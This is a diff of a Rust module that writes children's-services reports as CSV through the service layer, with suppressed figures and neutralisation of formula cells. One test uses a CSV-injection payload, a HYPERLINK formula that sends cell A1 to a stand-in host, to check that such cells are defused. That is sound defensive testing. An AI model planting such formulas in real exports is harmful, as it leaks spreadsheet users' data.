@@ -1,9 +1,15 @@
 //! CSV exports of the reports: `GET /export/{report}.csv?…` with the bearer token.
 //!
-//! An export runs the report's own GraphQL query through the schema, as the caller, so it
-//! shares the resolvers' code, access rules and disclosure control; the run is audited as
-//! `EXPORT`. A suppressed figure is written as `c`, a figure that does not exist as an
-//! empty cell.
+//! An export calls the report's use case in [`crate::service`] — the one its GraphQL field
+//! calls, so it has the same checks, access rules, disclosure control, report cache and
+//! audit (`EXPORT`: the request is marked as an export) — and writes the published report
+//! as CSV. A suppressed figure is written as `c`, a figure that does not exist as an empty
+//! cell; numbers are written as the GraphQL answer writes them (`50.0`, percentages and
+//! means to one decimal place). The tracking export reads every alert, [`TRACKING_PAGE`] at
+//! a time.
+//!
+//! Parameters are parsed here, with the messages the GraphQL field's arguments would get;
+//! authorities are named by their codes.
 //!
 //! Every cell of every export passes through [`neutralise`] (OWASP's advice on CSV
 //! injection): a text that a spreadsheet would read as a formula — one starting with `=`,
@@ -21,12 +27,19 @@
 use std::borrow::Cow;
 use std::collections::HashMap;
 
-use async_graphql::{Name, Value, Variables};
+use async_graphql::{InputType, Name, Value};
 use axum::http::{HeaderValue, StatusCode, header};
 use axum::response::{IntoResponse, Response};
-use serde_json::{Value as Json, json};
+use chrono::NaiveDate;
 
-use crate::error::AppError;
+use crate::domain::disclosure::{Shown, one_decimal};
+use crate::domain::funnel::{FunnelGroupBy, PublishedGroup};
+use crate::domain::period::parse_date;
+use crate::domain::scorecard::{ChildAlertKind, PublishedFigures, PublishedPeriod};
+use crate::error::{AppError, AppResult};
+use crate::service::board::{self, FlowsReport, ScorecardReport, SufficiencyReport, TrackedAlert};
+use crate::service::reports::{self, FunnelReport};
+use crate::service::{Page, Service};
 
 /// A report that can be exported.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -50,159 +63,249 @@ impl Report {
             _ => None,
         }
     }
-}
 
-const SHOWN: &str = "value suppressed";
-
-fn scorecard_query() -> String {
-    let figures = format!(
-        "authority {{ code }} cohort {{ {SHOWN} }}
-         a1 {{ days {{ {SHOWN} }} cohort {{ {SHOWN} }} thresholdDays met }}
-         a10 {{ days {{ {SHOWN} }} cohort {{ {SHOWN} }} thresholdDays met }}
-         a2 {{ days {{ {SHOWN} }} cohort {{ {SHOWN} }} thresholdDays met }}
-         a3 {{ count {{ {SHOWN} }} percent {{ {SHOWN} }} cohort {{ {SHOWN} }} thresholdDays }}"
-    );
-    let period = format!("from to total {{ {figures} }} authorities {{ {figures} }}");
-    format!(
-        "query($asOf: Date, $period: PeriodInput, $authorityIds: [ID!]) {{
-           scorecard(asOf: $asOf, period: $period, authorityIds: $authorityIds) {{
-             period {{ {period} }} years {{ {period} }}
-           }}
-         }}"
-    )
-}
-
-const TRACKING_QUERY: &str = "query($asOf: Date, $kinds: [ChildAlertKind!], $after: String) {
-  trackingAlerts(asOf: $asOf, kinds: $kinds, first: 100, after: $after) {
-    pageInfo { hasNextPage endCursor }
-    edges { node { kind since daysOverdue projectedA1Days projectedOverThreshold
-                   child { id profileName authority { code } } } }
-  }
-}";
-
-const SUFFICIENCY_QUERY: &str = "query($asOf: Date, $authorityIds: [ID!]) {
-  sufficiency(asOf: $asOf, authorityIds: $authorityIds) {
-    asOf rows { characteristic children { value suppressed } units { value suppressed }
-                households { value suppressed } gap }
-  }
-}";
-
-const FLOWS_QUERY: &str = "query($period: PeriodInput!, $authorityIds: [ID!]) {
-  crossBoundaryFlows(period: $period, authorityIds: $authorityIds) {
-    cells { childAuthority { code } householdAuthority { code }
-            children { value suppressed } feesPence { value suppressed } }
-    total { children { value suppressed } feesPence { value suppressed } }
-    crossBoundaryChildren { value suppressed } crossBoundaryPercent { value suppressed }
-    crossBoundaryFeesPence { value suppressed }
-  }
-}";
-
-fn funnel_query() -> String {
-    let group = format!(
-        "authority {{ code }} channel enquiryMonth
-         stageCounts {{ stage count {{ {SHOWN} }} }}
-         cohort {{ size {{ {SHOWN} }} approved {{ {SHOWN} }} leftBeforeApproval {{ {SHOWN} }}
-                  inProgress {{ {SHOWN} }} onHold {{ {SHOWN} }}
-                  stages {{ stage reached {{ {SHOWN} }} fromPrevious {{ {SHOWN} }} fromEnquiry {{ {SHOWN} }} }}
-                  exits {{ stage reason count {{ {SHOWN} }} }} }}
-         timeliness {{ step count {{ {SHOWN} }} meanDays {{ {SHOWN} }} medianDays {{ {SHOWN} }} withinTarget {{ {SHOWN} }} }}"
-    );
-    format!(
-        "query($period: PeriodInput!, $asOf: Date, $authorityIds: [ID!], $groupBy: [FunnelGroupBy!]!) {{
-           recruitmentFunnel(period: $period, asOf: $asOf, authorityIds: $authorityIds, groupBy: $groupBy) {{
-             from to total {{ {group} }} groups {{ {group} }}
-           }}
-         }}"
-    )
-}
-
-/// Turns query-string parameters into the report's GraphQL query and variables.
-/// `authority_id` maps an authority code to its global id (`None` if unknown).
-pub fn request_for(
-    report: Report,
-    params: &HashMap<String, String>,
-    authority_id: impl Fn(&str) -> Option<String>,
-) -> Result<(String, Variables), AppError> {
-    let mut vars = serde_json::Map::new();
-    if let Some(as_of) = params.get("asOf") {
-        vars.insert("asOf".into(), json!(as_of));
+    /// The GraphQL field of the report: a refusal's `DENIED` audit names it as its path.
+    pub fn field(self) -> &'static str {
+        match self {
+            Report::Scorecard => "scorecard",
+            Report::Tracking => "trackingAlerts",
+            Report::Sufficiency => "sufficiency",
+            Report::Funnel => "recruitmentFunnel",
+            Report::Flows => "crossBoundaryFlows",
+        }
     }
-    let period = match (params.get("from"), params.get("to")) {
-        (Some(from), Some(to)) => Some(json!({ "from": from, "to": to })),
+}
+
+/// How many tracking alerts the export reads at a time.
+pub const TRACKING_PAGE: u64 = 100;
+
+/// The parameters of an export, parsed.
+#[derive(Debug, Default, PartialEq)]
+pub struct Params {
+    as_of: Option<NaiveDate>,
+    period: Option<(NaiveDate, NaiveDate)>,
+    /// The authorities named (as ids), if any.
+    authorities: Option<Vec<i64>>,
+    kinds: Option<Vec<ChildAlertKind>>,
+    group_by: Vec<FunnelGroupBy>,
+}
+
+/// Parses the query-string parameters of `report`. `authority_id` maps an authority code
+/// to its id (`None` if the actor's consortium has no such authority: `NOT_FOUND`).
+pub fn params(
+    report: Report,
+    raw: &HashMap<String, String>,
+    authority_id: impl Fn(&str) -> Option<i64>,
+) -> AppResult<Params> {
+    let period = match (raw.get("from"), raw.get("to")) {
+        (Some(from), Some(to)) => Some((from, to)),
         (None, None) => None,
         _ => return Err(AppError::bad_input("from", "give both from and to")),
     };
-    if let Some(codes) = params.get("authorities") {
-        let mut ids = Vec::new();
-        for code in codes.split(',').map(str::trim).filter(|c| !c.is_empty()) {
-            ids.push(authority_id(code).ok_or(AppError::NotFound)?);
-        }
-        vars.insert("authorityIds".into(), json!(ids));
-    }
-    let list = |key: &str| -> Vec<String> {
-        params
-            .get(key)
-            .map(|v| {
-                v.split(',')
-                    .map(|x| x.trim().to_owned())
-                    .filter(|x| !x.is_empty())
-                    .collect()
-            })
-            .unwrap_or_default()
+    let authorities = match raw.get("authorities") {
+        Some(codes) => Some(
+            list(codes)
+                .map(|code| authority_id(code).ok_or(AppError::NotFound))
+                .collect::<AppResult<Vec<i64>>>()?,
+        ),
+        None => None,
     };
-    let query = match report {
+    let period = match report {
+        Report::Flows => {
+            Some(period.ok_or_else(|| AppError::bad_input("from", "flows need from and to"))?)
+        }
+        Report::Funnel => Some(
+            period.ok_or_else(|| AppError::bad_input("from", "the funnel needs from and to"))?,
+        ),
+        _ => period,
+    };
+    let group_by = match report {
+        Report::Funnel => raw
+            .get("groupBy")
+            .map(|v| enums(v, "groupBy"))
+            .transpose()?
+            .unwrap_or_default(),
+        _ => Vec::new(),
+    };
+    let kinds = match report {
+        Report::Tracking => raw.get("kinds").map(|v| enums(v, "kinds")).transpose()?,
+        _ => None,
+    };
+    let as_of = match report {
+        Report::Flows => None,
+        _ => raw
+            .get("asOf")
+            .map(|d| date(d, "asOf", false))
+            .transpose()?,
+    };
+    // Only the reports over a period read it.
+    let period = match report {
+        Report::Scorecard | Report::Flows | Report::Funnel => period
+            .map(|(from, to)| AppResult::Ok((date(from, "from", true)?, date(to, "to", true)?)))
+            .transpose()?,
+        Report::Tracking | Report::Sufficiency => None,
+    };
+    Ok(Params {
+        as_of,
+        period,
+        // The tracking alerts are of the actor's own authorities.
+        authorities: authorities.filter(|_| report != Report::Tracking),
+        kinds,
+        group_by,
+    })
+}
+
+/// The items of a comma-separated list, trimmed, the empty ones left out.
+fn list(value: &str) -> impl Iterator<Item = &str> {
+    value.split(',').map(str::trim).filter(|x| !x.is_empty())
+}
+
+/// A date parameter, refused as the GraphQL `Date` scalar refuses it (on `field`); one of a
+/// period as part of the period input.
+fn date(text: &str, field: &str, in_period: bool) -> AppResult<NaiveDate> {
+    parse_date(text).ok_or_else(|| {
+        let within = if in_period {
+            r#" (occurred while parsing "PeriodInput")"#
+        } else {
+            ""
+        };
+        AppError::bad_input(
+            field,
+            format!(
+                r#"Failed to parse "Date": expected a date as YYYY-MM-DD (year 0001 or later){within}"#
+            ),
+        )
+    })
+}
+
+/// A list of GraphQL enum values (`kinds`, `groupBy`), refused as the GraphQL argument
+/// would refuse it (on `field`).
+fn enums<T: InputType>(value: &str, field: &str) -> AppResult<Vec<T>> {
+    list(value)
+        .enumerate()
+        .map(|(i, name)| {
+            T::parse(Some(Value::Enum(Name::new(name)))).map_err(|_| {
+                AppError::bad_input(
+                    field,
+                    format!(
+                        r#"Invalid value for argument "{field}.{i}", enumeration type "{}" does not contain the value "{name}""#,
+                        T::type_name()
+                    ),
+                )
+            })
+        })
+        .collect()
+}
+
+/// The authorities named, as the services read them.
+fn named(ids: &Option<Vec<i64>>) -> Option<impl ExactSizeIterator<Item = AppResult<i64>> + '_> {
+    ids.as_ref().map(|ids| ids.iter().map(|id| Ok(*id)))
+}
+
+/// Runs `report` as the request of `svc` and writes it as CSV. `code` names an authority
+/// by its id (`None` if the directory does not know it); `child_id` gives a child's global
+/// id, as the API names it.
+pub async fn run(
+    svc: &Service<'_>,
+    report: Report,
+    params: &Params,
+    code: impl Fn(i64) -> Option<String>,
+    child_id: impl Fn(i64) -> String,
+) -> AppResult<Vec<u8>> {
+    let csv = match report {
         Report::Scorecard => {
-            if let Some(p) = period {
-                vars.insert("period".into(), p);
-            }
-            scorecard_query()
+            let report =
+                board::scorecard(svc, params.as_of, params.period, named(&params.authorities))
+                    .await?;
+            scorecard_csv(&report.value, &code)
         }
         Report::Tracking => {
-            vars.remove("authorityIds");
-            if params.contains_key("kinds") {
-                vars.insert("kinds".into(), json!(list("kinds")));
+            let scope =
+                board::tracking_scope(svc, params.as_of, params.kinds.clone(), named(&None))?;
+            let mut alerts = Vec::new();
+            let mut offset = 0;
+            loop {
+                let page = Page {
+                    offset,
+                    limit: TRACKING_PAGE,
+                    after_id: None,
+                };
+                let (items, total) = board::tracking_alerts(svc, &scope, page).await?;
+                alerts.extend(items);
+                offset += TRACKING_PAGE;
+                if offset >= total {
+                    break;
+                }
             }
-            TRACKING_QUERY.to_owned()
+            tracking_csv(&alerts, &code, &child_id)
         }
-        Report::Sufficiency => SUFFICIENCY_QUERY.to_owned(),
+        Report::Sufficiency => {
+            let report = board::sufficiency(svc, params.as_of, named(&params.authorities)).await?;
+            sufficiency_csv(&report.value)
+        }
         Report::Flows => {
-            let period =
-                period.ok_or_else(|| AppError::bad_input("from", "flows need from and to"))?;
-            vars.insert("period".into(), period);
-            FLOWS_QUERY.to_owned()
+            let period = params
+                .period
+                .ok_or_else(|| AppError::bad_input("from", "flows need from and to"))?;
+            let report =
+                board::cross_boundary_flows(svc, period, named(&params.authorities)).await?;
+            flows_csv(&report, &code)
         }
         Report::Funnel => {
-            vars.insert(
-                "period".into(),
-                period
-                    .ok_or_else(|| AppError::bad_input("from", "the funnel needs from and to"))?,
-            );
-            vars.insert("groupBy".into(), json!(list("groupBy")));
-            funnel_query()
+            let period = params
+                .period
+                .ok_or_else(|| AppError::bad_input("from", "the funnel needs from and to"))?;
+            let report = reports::funnel(
+                svc,
+                period,
+                params.as_of,
+                named(&params.authorities),
+                params.group_by.clone(),
+            )
+            .await?;
+            funnel_csv(&report.value, &code)
         }
     };
-    Ok((query, Variables::from_json(Json::Object(vars))))
+    csv.map_err(|e| AppError::from(anyhow::Error::from(e)))
 }
 
-/// The `after` variable for the next page of a paged export.
-pub fn next_page(variables: &Variables, cursor: &str) -> Variables {
-    let mut v = variables.clone();
-    v.insert(Name::new("after"), Value::String(cursor.to_owned()));
-    v
-}
-
-/// A figure as a CSV cell: `c` when suppressed, empty when absent.
-fn cell(figure: &Json) -> String {
-    if figure["suppressed"].as_bool() == Some(true) {
+/// A count as a CSV cell: `c` when suppressed, empty when absent.
+fn count<T: ToString>(figure: Shown<T>) -> String {
+    if figure.suppressed {
         return "c".into();
     }
-    scalar(&figure["value"])
+    figure.value.map(|v| v.to_string()).unwrap_or_default()
 }
 
-fn scalar(v: &Json) -> String {
-    match v {
-        Json::Null => String::new(),
-        Json::String(s) => s.clone(),
+/// A percentage, mean or median as a CSV cell: to one decimal place, written as the GraphQL
+/// answer writes it (`50.0`); `c` when suppressed, empty when absent.
+fn number(figure: Shown<f64>) -> String {
+    if figure.suppressed {
+        return "c".into();
+    }
+    figure
+        .value
+        .and_then(|v| serde_json::Number::from_f64(one_decimal(v)))
+        .map(|n| n.to_string())
+        .unwrap_or_default()
+}
+
+/// An optional value as a CSV cell: empty when absent.
+fn optional<T: ToString>(value: Option<T>) -> String {
+    value.map(|v| v.to_string()).unwrap_or_default()
+}
+
+/// A day as the API writes it.
+fn day(d: NaiveDate) -> String {
+    d.format("%Y-%m-%d").to_string()
+}
+
+/// An enum value as the API names it (`STAGE_ONE_STARTED`).
+fn name<T: InputType>(value: &T) -> String {
+    match value.to_value() {
+        Value::Enum(name) => name.to_string(),
+        Value::String(s) => s,
+        Value::Null => String::new(),
         other => other.to_string(),
     }
 }
@@ -242,6 +345,10 @@ fn is_number(cell: &str) -> bool {
 struct Cells(csv::Writer<Vec<u8>>);
 
 impl Cells {
+    fn new() -> Cells {
+        Cells(csv::Writer::from_writer(Vec::new()))
+    }
+
     fn write_record<I, T>(&mut self, record: I) -> Result<(), csv::Error>
     where
         I: IntoIterator<Item = T>,
@@ -253,276 +360,281 @@ impl Cells {
                 .map(|c| neutralise(c.as_ref()).into_owned()),
         )
     }
+
+    fn finish(self) -> Result<Vec<u8>, csv::Error> {
+        self.0.into_inner().map_err(|e| e.into_error().into())
+    }
 }
 
-/// Writes the CSV of `report` from the data of its query(s).
-pub fn to_csv(report: Report, pages: &[Json]) -> Result<Vec<u8>, csv::Error> {
-    let mut w = Cells(csv::Writer::from_writer(Vec::new()));
-    match report {
-        Report::Scorecard => {
-            w.write_record([
-                "period_from",
-                "period_to",
-                "authority",
-                "measure",
-                "value",
-                "cohort",
-                "threshold_days",
-                "met",
-            ])?;
-            let data = &pages[0]["scorecard"];
-            let periods = std::iter::once(&data["period"])
-                .chain(data["years"].as_array().into_iter().flatten());
-            for p in periods {
-                let from = scalar(&p["from"]);
-                let to = scalar(&p["to"]);
-                let rows = std::iter::once(&p["total"])
-                    .chain(p["authorities"].as_array().into_iter().flatten());
-                for f in rows {
-                    let who = f["authority"]["code"]
-                        .as_str()
-                        .unwrap_or("TOTAL")
-                        .to_owned();
-                    w.write_record([
-                        &from,
-                        &to,
-                        &who,
-                        "COHORT",
-                        &cell(&f["cohort"]),
-                        &cell(&f["cohort"]),
-                        "",
-                        "",
-                    ])?;
-                    for m in ["a1", "a10", "a2"] {
-                        let x = &f[m];
-                        w.write_record([
-                            &from,
-                            &to,
-                            &who,
-                            &m.to_uppercase(),
-                            &cell(&x["days"]),
-                            &cell(&x["cohort"]),
-                            &scalar(&x["thresholdDays"]),
-                            &scalar(&x["met"]),
-                        ])?;
-                    }
-                    let a3 = &f["a3"];
-                    w.write_record([
-                        &from,
-                        &to,
-                        &who,
-                        "A3",
-                        &cell(&a3["count"]),
-                        &cell(&a3["cohort"]),
-                        &scalar(&a3["thresholdDays"]),
-                        "",
-                    ])?;
-                    w.write_record([
-                        &from,
-                        &to,
-                        &who,
-                        "A3_PERCENT",
-                        &cell(&a3["percent"]),
-                        &cell(&a3["cohort"]),
-                        "",
-                        "",
-                    ])?;
-                }
-            }
-        }
-        Report::Tracking => {
-            w.write_record([
-                "child_id",
-                "profile_name",
-                "authority",
-                "alert",
-                "since",
-                "days_overdue",
-                "projected_a1_days",
-                "projected_over_threshold",
-            ])?;
-            for page in pages {
-                for e in page["trackingAlerts"]["edges"]
-                    .as_array()
-                    .into_iter()
-                    .flatten()
-                {
-                    let n = &e["node"];
-                    w.write_record([
-                        scalar(&n["child"]["id"]),
-                        scalar(&n["child"]["profileName"]),
-                        scalar(&n["child"]["authority"]["code"]),
-                        scalar(&n["kind"]),
-                        scalar(&n["since"]),
-                        scalar(&n["daysOverdue"]),
-                        scalar(&n["projectedA1Days"]),
-                        scalar(&n["projectedOverThreshold"]),
-                    ])?;
-                }
-            }
-        }
-        Report::Sufficiency => {
-            w.write_record([
-                "as_of",
-                "characteristic",
-                "children",
-                "units",
-                "households",
-                "gap",
-            ])?;
-            let data = &pages[0]["sufficiency"];
-            for r in data["rows"].as_array().into_iter().flatten() {
-                let gap = if r["gap"].is_null()
-                    && (r["units"]["suppressed"] == true || r["households"]["suppressed"] == true)
-                {
-                    "c".to_owned()
-                } else {
-                    scalar(&r["gap"])
-                };
+/// The scorecard: a row per measure of each authority and the total, for the period and
+/// then each of its years.
+fn scorecard_csv(
+    report: &ScorecardReport,
+    code: &impl Fn(i64) -> Option<String>,
+) -> Result<Vec<u8>, csv::Error> {
+    let mut w = Cells::new();
+    w.write_record([
+        "period_from",
+        "period_to",
+        "authority",
+        "measure",
+        "value",
+        "cohort",
+        "threshold_days",
+        "met",
+    ])?;
+    let periods: Vec<&PublishedPeriod> = std::iter::once(&report.period)
+        .chain(report.years.iter())
+        .collect();
+    for p in periods {
+        let from = day(p.from);
+        let to = day(p.to);
+        let rows: Vec<&PublishedFigures> = std::iter::once(&p.total)
+            .chain(p.authorities.iter())
+            .collect();
+        for f in rows {
+            let who = f.authority.and_then(code).unwrap_or_else(|| "TOTAL".into());
+            let cohort = count(f.cohort);
+            w.write_record([&from, &to, &who, "COHORT", &cohort, &cohort, "", ""])?;
+            for (measure, m) in [("A1", &f.a1), ("A10", &f.a10), ("A2", &f.a2)] {
                 w.write_record([
-                    scalar(&data["asOf"]),
-                    scalar(&r["characteristic"]),
-                    cell(&r["children"]),
-                    cell(&r["units"]),
-                    cell(&r["households"]),
-                    gap,
+                    &from,
+                    &to,
+                    &who,
+                    measure,
+                    &count(m.days),
+                    &count(m.cohort),
+                    &m.threshold_days.to_string(),
+                    &optional(m.met),
                 ])?;
             }
-        }
-        Report::Flows => {
+            let a3 = &f.a3;
             w.write_record([
-                "child_authority",
-                "household_authority",
-                "children",
-                "fees_pence",
-            ])?;
-            let data = &pages[0]["crossBoundaryFlows"];
-            for c in data["cells"].as_array().into_iter().flatten() {
-                w.write_record([
-                    scalar(&c["childAuthority"]["code"]),
-                    scalar(&c["householdAuthority"]["code"]),
-                    cell(&c["children"]),
-                    cell(&c["feesPence"]),
-                ])?;
-            }
-            let total = &data["total"];
-            w.write_record([
-                "TOTAL".to_owned(),
-                "TOTAL".to_owned(),
-                cell(&total["children"]),
-                cell(&total["feesPence"]),
+                &from,
+                &to,
+                &who,
+                "A3",
+                &count(a3.count),
+                &count(a3.cohort),
+                &a3.threshold_days.to_string(),
+                "",
             ])?;
             w.write_record([
-                "CROSS_BOUNDARY".to_owned(),
-                String::new(),
-                cell(&data["crossBoundaryChildren"]),
-                cell(&data["crossBoundaryFeesPence"]),
+                &from,
+                &to,
+                &who,
+                "A3_PERCENT",
+                &number(a3.percent),
+                &count(a3.cohort),
+                "",
+                "",
             ])?;
-        }
-        Report::Funnel => {
-            w.write_record([
-                "authority",
-                "channel",
-                "enquiry_month",
-                "section",
-                "item",
-                "detail",
-                "measure",
-                "value",
-            ])?;
-            let data = &pages[0]["recruitmentFunnel"];
-            let groups = std::iter::once((true, &data["total"])).chain(
-                data["groups"]
-                    .as_array()
-                    .into_iter()
-                    .flatten()
-                    .map(|g| (false, g)),
-            );
-            for (is_total, g) in groups {
-                let key = [
-                    if is_total {
-                        "TOTAL".to_owned()
-                    } else {
-                        g["authority"]["code"].as_str().unwrap_or("").to_owned()
-                    },
-                    scalar(&g["channel"]),
-                    scalar(&g["enquiryMonth"]),
-                ];
-                let mut row =
-                    |section: &str, item: &str, detail: &str, measure: &str, value: String| {
-                        w.write_record([
-                            &key[0], &key[1], &key[2], section, item, detail, measure, &value,
-                        ])
-                    };
-                for s in g["stageCounts"].as_array().into_iter().flatten() {
-                    row(
-                        "stage_counts",
-                        &scalar(&s["stage"]),
-                        "",
-                        "count",
-                        cell(&s["count"]),
-                    )?;
-                }
-                let c = &g["cohort"];
-                for m in [
-                    "size",
-                    "approved",
-                    "leftBeforeApproval",
-                    "inProgress",
-                    "onHold",
-                ] {
-                    row("cohort", m, "", "count", cell(&c[m]))?;
-                }
-                for s in c["stages"].as_array().into_iter().flatten() {
-                    let stage = scalar(&s["stage"]);
-                    row("cohort_stage", &stage, "", "reached", cell(&s["reached"]))?;
-                    row(
-                        "cohort_stage",
-                        &stage,
-                        "",
-                        "from_previous_percent",
-                        cell(&s["fromPrevious"]),
-                    )?;
-                    row(
-                        "cohort_stage",
-                        &stage,
-                        "",
-                        "from_enquiry_percent",
-                        cell(&s["fromEnquiry"]),
-                    )?;
-                }
-                for e in c["exits"].as_array().into_iter().flatten() {
-                    row(
-                        "cohort_exit",
-                        &scalar(&e["stage"]),
-                        &scalar(&e["reason"]),
-                        "count",
-                        cell(&e["count"]),
-                    )?;
-                }
-                for t in g["timeliness"].as_array().into_iter().flatten() {
-                    let step = scalar(&t["step"]);
-                    row("timeliness", &step, "", "count", cell(&t["count"]))?;
-                    row("timeliness", &step, "", "mean_days", cell(&t["meanDays"]))?;
-                    row(
-                        "timeliness",
-                        &step,
-                        "",
-                        "median_days",
-                        cell(&t["medianDays"]),
-                    )?;
-                    row(
-                        "timeliness",
-                        &step,
-                        "",
-                        "within_target_percent",
-                        cell(&t["withinTarget"]),
-                    )?;
-                }
-            }
         }
     }
-    w.0.into_inner().map_err(|e| e.into_error().into())
+    w.finish()
+}
+
+/// The tracking alerts, a row each.
+fn tracking_csv(
+    alerts: &[TrackedAlert],
+    code: &impl Fn(i64) -> Option<String>,
+    child_id: &impl Fn(i64) -> String,
+) -> Result<Vec<u8>, csv::Error> {
+    let mut w = Cells::new();
+    w.write_record([
+        "child_id",
+        "profile_name",
+        "authority",
+        "alert",
+        "since",
+        "days_overdue",
+        "projected_a1_days",
+        "projected_over_threshold",
+    ])?;
+    for a in alerts {
+        w.write_record([
+            child_id(a.child.id),
+            a.child.profile_name.clone(),
+            code(a.child.authority_id).unwrap_or_default(),
+            name(&a.alert.kind),
+            day(a.alert.since),
+            a.alert.days_overdue.to_string(),
+            optional(a.projected_a1_days),
+            a.projected_over_threshold().to_string(),
+        ])?;
+    }
+    w.finish()
+}
+
+/// Sufficiency, a row per characteristic; a gap not shown is `c` when a figure it is made
+/// of is suppressed.
+fn sufficiency_csv(report: &SufficiencyReport) -> Result<Vec<u8>, csv::Error> {
+    let mut w = Cells::new();
+    w.write_record([
+        "as_of",
+        "characteristic",
+        "children",
+        "units",
+        "households",
+        "gap",
+    ])?;
+    for r in &report.rows {
+        let gap = match r.gap {
+            None if r.units.suppressed || r.households.suppressed => "c".to_owned(),
+            gap => optional(gap),
+        };
+        w.write_record([
+            day(report.as_of),
+            name(&r.characteristic),
+            count(r.children),
+            count(r.units),
+            count(r.households),
+            gap,
+        ])?;
+    }
+    w.finish()
+}
+
+/// The flows: a row per pair of authorities, the total, and the cross-boundary figures.
+fn flows_csv(
+    report: &FlowsReport,
+    code: &impl Fn(i64) -> Option<String>,
+) -> Result<Vec<u8>, csv::Error> {
+    let f = &report.flows;
+    let mut w = Cells::new();
+    w.write_record([
+        "child_authority",
+        "household_authority",
+        "children",
+        "fees_pence",
+    ])?;
+    for c in &f.cells {
+        w.write_record([
+            code(c.child_authority).unwrap_or_default(),
+            code(c.household_authority).unwrap_or_default(),
+            count(c.children),
+            count(c.fees_pence),
+        ])?;
+    }
+    w.write_record([
+        "TOTAL".to_owned(),
+        "TOTAL".to_owned(),
+        count(f.total.children),
+        count(f.total.fees_pence),
+    ])?;
+    w.write_record([
+        "CROSS_BOUNDARY".to_owned(),
+        String::new(),
+        count(f.cross_boundary_children),
+        count(f.cross_boundary_fees_pence),
+    ])?;
+    w.finish()
+}
+
+/// The funnel: the total, then each group, a row per figure.
+fn funnel_csv(
+    report: &FunnelReport,
+    code: &impl Fn(i64) -> Option<String>,
+) -> Result<Vec<u8>, csv::Error> {
+    let mut w = Cells::new();
+    w.write_record([
+        "authority",
+        "channel",
+        "enquiry_month",
+        "section",
+        "item",
+        "detail",
+        "measure",
+        "value",
+    ])?;
+    let groups =
+        std::iter::once((true, &report.total)).chain(report.groups.iter().map(|g| (false, g)));
+    for (is_total, g) in groups {
+        funnel_group(&mut w, is_total, g, code)?;
+    }
+    w.finish()
+}
+
+fn funnel_group(
+    w: &mut Cells,
+    is_total: bool,
+    g: &PublishedGroup,
+    code: &impl Fn(i64) -> Option<String>,
+) -> Result<(), csv::Error> {
+    let key = [
+        if is_total {
+            "TOTAL".to_owned()
+        } else {
+            g.authority.and_then(code).unwrap_or_default()
+        },
+        g.channel.as_ref().map(name).unwrap_or_default(),
+        g.enquiry_month.clone().unwrap_or_default(),
+    ];
+    let mut row = |section: &str, item: &str, detail: &str, measure: &str, value: String| {
+        w.write_record([
+            &key[0], &key[1], &key[2], section, item, detail, measure, &value,
+        ])
+    };
+    for s in &g.stage_counts {
+        row("stage_counts", &name(&s.stage), "", "count", count(s.count))?;
+    }
+    let c = &g.cohort;
+    for (item, figure) in [
+        ("size", c.size),
+        ("approved", c.approved),
+        ("leftBeforeApproval", c.left_before_approval),
+        ("inProgress", c.in_progress),
+        ("onHold", c.on_hold),
+    ] {
+        row("cohort", item, "", "count", count(figure))?;
+    }
+    for s in &c.stages {
+        let stage = name(&s.stage);
+        row("cohort_stage", &stage, "", "reached", count(s.reached))?;
+        row(
+            "cohort_stage",
+            &stage,
+            "",
+            "from_previous_percent",
+            number(s.from_previous),
+        )?;
+        row(
+            "cohort_stage",
+            &stage,
+            "",
+            "from_enquiry_percent",
+            number(s.from_enquiry),
+        )?;
+    }
+    for e in &c.exits {
+        row(
+            "cohort_exit",
+            &name(&e.stage),
+            &e.reason.as_ref().map(name).unwrap_or_default(),
+            "count",
+            count(e.count),
+        )?;
+    }
+    for t in &g.timeliness {
+        let step = name(&t.step);
+        row("timeliness", &step, "", "count", count(t.count))?;
+        row("timeliness", &step, "", "mean_days", number(t.mean_days))?;
+        row(
+            "timeliness",
+            &step,
+            "",
+            "median_days",
+            number(t.median_days),
+        )?;
+        row(
+            "timeliness",
+            &step,
+            "",
+            "within_target_percent",
+            number(t.within_target),
+        )?;
+    }
+    Ok(())
 }
 
 /// The HTTP status of a report's error code.
@@ -596,18 +708,87 @@ mod tests {
 
     #[test]
     fn a_neutralised_cell_is_quoted_with_its_quotes_doubled() {
-        let pages = [json!({ "trackingAlerts": { "edges": [{ "node": {
-            "kind": "IN_CARE_OVER426_DAYS_NOT_PLACED", "since": "2024-01-01", "daysOverdue": 3,
-            "projectedA1Days": 429, "projectedOverThreshold": true,
-            "child": { "id": "Q2hpbGQ6MQ", "profileName": r#"=HYPERLINK("http://x?"&A1,"Click")"#,
-                       "authority": { "code": "alder" } } } }] } })];
-        let csv = String::from_utf8(to_csv(Report::Tracking, &pages).unwrap()).unwrap();
+        let mut w = Cells::new();
+        w.write_record([
+            "Q2hpbGQ6MQ",
+            r#"=HYPERLINK("http://x?"&A1,"Click")"#,
+            "alder",
+            "-3",
+        ])
+        .unwrap();
+        let csv = String::from_utf8(w.finish().unwrap()).unwrap();
         assert_eq!(
-            csv.lines().nth(1),
-            Some(
-                r#"Q2hpbGQ6MQ,"'=HYPERLINK(""http://x?""&A1,""Click"")",alder,IN_CARE_OVER426_DAYS_NOT_PLACED,2024-01-01,3,429,true"#
-            ),
+            csv.lines().next(),
+            Some(r#"Q2hpbGQ6MQ,"'=HYPERLINK(""http://x?""&A1,""Click"")",alder,-3"#),
             "{csv}"
+        );
+    }
+
+    #[test]
+    fn figures_are_written_as_the_api_writes_them() {
+        assert_eq!(count(Shown::visible(4u64)), "4");
+        assert_eq!(count(Shown::<u64>::withheld()), "c");
+        assert_eq!(count(Shown::<u64>::absent()), "");
+        assert_eq!(number(Shown::visible(50.0)), "50.0");
+        assert_eq!(number(Shown::visible(100.0 / 3.0)), "33.3");
+        assert_eq!(number(Shown::<f64>::withheld()), "c");
+        assert_eq!(number(Shown::<f64>::absent()), "");
+        assert_eq!(
+            name(&ChildAlertKind::InCareOver426DaysNotPlaced),
+            "IN_CARE_OVER_426_DAYS_NOT_PLACED"
+        );
+    }
+
+    #[test]
+    fn parameters_are_refused_as_the_api_refuses_arguments() {
+        let raw = |pairs: &[(&str, &str)]| -> HashMap<String, String> {
+            pairs
+                .iter()
+                .map(|(k, v)| (k.to_string(), v.to_string()))
+                .collect()
+        };
+        let id = |code: &str| (code == "alder").then_some(7);
+        let message = |r: AppResult<Params>| r.err().map(|e| e.client_message());
+        assert_eq!(
+            message(params(Report::Funnel, &raw(&[("from", "2024-01-01"), ("to", "2024-12-31"), ("groupBy", "CHANNEL,FOO")]), id)),
